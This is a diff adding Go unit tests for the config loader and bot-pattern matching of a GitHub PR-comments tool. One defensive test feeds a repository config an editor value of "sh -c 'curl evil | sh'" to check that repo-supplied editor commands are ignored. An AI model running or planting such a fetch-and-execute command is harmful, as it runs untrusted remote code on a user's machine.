@@ -0,0 +1,173 @@
+package ghprcomments
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-github/v61/github"
+)
+
+func writeConfigFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadConfigLayers(t *testing.T) {
+	dir := t.TempDir()
+	userPath := filepath.Join(dir, "user", "config.yml")
+	repoRoot := filepath.Join(dir, "repo")
+	writeConfigFile(t, userPath, `
+format: markdown
+strip_level: raw
+bots:
+  include: ["^ci-"]
+ignored_authors: [codecov]
+colors:
+  author: "#ff8800"
+keybindings:
+  open_url: "o,x"
+`)
+	writeConfigFile(t, filepath.Join(repoRoot, RepoConfigFile), `
+format: csv
+save_dir: review-notes
+bots:
+  include: ["-automation$"]
+  exclude: [security-team]
+discovery_depth: 4
+`)
+	env := map[string]string{"GH_PR_COMMENTS_STRIP_LEVEL": "markdown", "NO_COLOR": "1"}
+
+	cfg, err := loadConfig(userPath, repoRoot, func(key string) string { return env[key] })
+	if err != nil {
+		t.Fatalf("loadConfig: %v", err)
+	}
+
+	checks := []struct {
+		key, value, source string
+	}{
+		{"format", "csv", "repo config"},
+		{"save_dir", "review-notes", "repo config"},
+		{"strip_level", "markdown", "env GH_PR_COMMENTS_STRIP_LEVEL"},
+		{"bots.include", "^ci-, -automation$", "user config, repo config"},
+		{"bots.exclude", "security-team", "repo config"},
+		{"ignored_authors", "codecov", "user config"},
+		{"color", "never", "env NO_COLOR"},
+		{"colors.author", "#ff8800", "user config"},
+		{"keybindings.open_url", "o,x", "user config"},
+		{"discovery_depth", "4", "repo config"},
+	}
+	for _, check := range checks {
+		if got := cfg.Value(check.key); got != check.value {
+			t.Errorf("Value(%q) = %q, want %q", check.key, got, check.value)
+		}
+		if got := cfg.Source(check.key); got != check.source {
+			t.Errorf("Source(%q) = %q, want %q", check.key, got, check.source)
+		}
+	}
+	if len(cfg.Files) != 2 || !cfg.Files[0].Exists || !cfg.Files[1].Exists {
+		t.Fatalf("unexpected files %+v", cfg.Files)
+	}
+}
+
+func TestLoadConfigIgnoresRepoEditor(t *testing.T) {
+	dir := t.TempDir()
+	userPath := filepath.Join(dir, "user", "config.yml")
+	repoRoot := filepath.Join(dir, "repo")
+	writeConfigFile(t, filepath.Join(repoRoot, RepoConfigFile), "editor: \"sh -c 'curl evil | sh'\"\n")
+
+	cfg, err := loadConfig(userPath, repoRoot, func(string) string { return "" })
+	if err != nil {
+		t.Fatalf("loadConfig: %v", err)
+	}
+	if cfg.Editor != "" || cfg.Source("editor") != "default" {
+		t.Fatalf("expected the repo editor to be ignored, got %q from %s", cfg.Editor, cfg.Source("editor"))
+	}
+	if len(cfg.Warnings) != 1 || !strings.Contains(cfg.Warnings[0], "editor is ignored") {
+		t.Fatalf("expected a warning, got %v", cfg.Warnings)
+	}
+
+	writeConfigFile(t, userPath, "editor: nvim\n")
+	cfg, err = loadConfig(userPath, repoRoot, func(string) string { return "" })
+	if err != nil {
+		t.Fatalf("loadConfig: %v", err)
+	}
+	if cfg.Editor != "nvim" || cfg.Source("editor") != "user config" {
+		t.Fatalf("expected the user editor to win, got %q from %s", cfg.Editor, cfg.Source("editor"))
+	}
+}
+
+func TestLoadConfigDefaults(t *testing.T) {
+	dir := t.TempDir()
+	cfg, err := loadConfig(filepath.Join(dir, "missing.yml"), "", func(string) string { return "" })
+	if err != nil {
+		t.Fatalf("loadConfig: %v", err)
+	}
+	if cfg.Format != "json" || cfg.StripLevel != "plain" || cfg.Color != "auto" || cfg.DiscoveryDepth != DefaultDiscoveryDepth {
+		t.Fatalf("unexpected defaults %+v", cfg)
+	}
+	if cfg.Value("save_dir") != defaultSaveDir || cfg.Source("save_dir") != "default" {
+		t.Fatalf("save_dir = %q from %q", cfg.Value("save_dir"), cfg.Source("save_dir"))
+	}
+	if cfg.Files[0].Exists {
+		t.Fatal("missing user config reported as existing")
+	}
+}
+
+func TestLoadConfigErrors(t *testing.T) {
+	testCases := []struct {
+		name    string
+		content string
+		want    string
+	}{
+		{name: "unknown key", content: "formats: csv\n", want: "field formats not found"},
+		{name: "bad format", content: "format: yaml\n", want: `config format (from user config): unknown format "yaml"`},
+		{name: "bad color", content: "color: sometimes\n", want: "config color"},
+		{name: "bad regex", content: "bots:\n  include: ['(']\n", want: "config bots.include"},
+		{name: "bad colour role", content: "colors:\n  heading: red\n", want: "config colors.heading"},
+		{name: "negative depth", content: "discovery_depth: -1\n", want: "config discovery_depth"},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.yml")
+			writeConfigFile(t, path, tc.content)
+			_, err := loadConfig(path, "", func(string) string { return "" })
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("loadConfig error = %v, want %q", err, tc.want)
+			}
+		})
+	}
+}
+
+func TestSetBotPatterns(t *testing.T) {
+	t.Cleanup(func() { _ = SetBotPatterns(nil, nil) })
+
+	user := func(login string) *github.User { return &github.User{Login: github.String(login)} }
+	if IsBotAuthor(user("ci-runner")) || !IsBotAuthor(user("renovate")) {
+		t.Fatal("unexpected built-in classification")
+	}
+
+	if err := SetBotPatterns([]string{"^CI-"}, []string{"^renovate$"}); err != nil {
+		t.Fatalf("SetBotPatterns: %v", err)
+	}
+	if !IsBotAuthor(user("ci-runner")) {
+		t.Fatal("expected extra pattern to classify ci-runner as a bot")
+	}
+	if IsBotAuthor(user("renovate")) {
+		t.Fatal("expected exclusion to override the built-in pattern")
+	}
+	if !IsBotAuthor(user("dependabot[bot]")) {
+		t.Fatal("built-in patterns should still apply")
+	}
+
+	if err := SetBotPatterns([]string{"("}, nil); err == nil {
+		t.Fatal("expected invalid pattern to fail")
+	}
+}